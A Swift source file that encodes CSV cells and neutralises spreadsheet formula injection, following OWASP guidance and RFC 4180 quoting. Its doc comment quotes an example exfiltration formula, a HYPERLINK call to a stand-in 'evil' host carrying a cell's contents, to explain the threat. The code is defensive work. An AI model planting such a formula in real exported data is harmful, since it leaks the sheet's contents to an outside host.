/// One cell of a CSV file that people open in Excel or LibreOffice.
///
/// A cell starting with `=`, `+`, `-` or `@` is run as a formula by spreadsheet programs
/// (`=HYPERLINK("http://evil/?"&A1, "click")` in a summary would leak the sheet); so is one starting
/// with a tab or carriage return in some of them. Following the OWASP "CSV Injection" guidance, such
/// a cell is prefixed with a single quote, which makes the program show it as text, and quoted.
/// Every other cell is quoted when it holds a comma, quote or line break (RFC 4180).
enum CSVField {
    static let formulaStarts: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]

    static func encode(_ value: String) -> String {
        let neutralised = needsNeutralising(value)
        let text = neutralised ? "'" + value : value
        let mustQuote = neutralised || text.unicodeScalars.contains { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }
        guard mustQuote else { return text }
        return "\"" + text.replacingQuotes() + "\""
    }

    /// Whether the cell would start a formula: its first character (scalar, so that "\r\n" counts)
    /// is one of `formulaStarts`.
    static func needsNeutralising(_ value: String) -> Bool {
        guard let first = value.unicodeScalars.first else { return false }
        return formulaStarts.contains(Character(first))
    }
}

extension String {
    fileprivate func replacingQuotes() -> String {
        var result = ""
        for character in self {
            result.append(character)
            if character == "\"" { result.append("\"") }
        }
        return result
    }
}
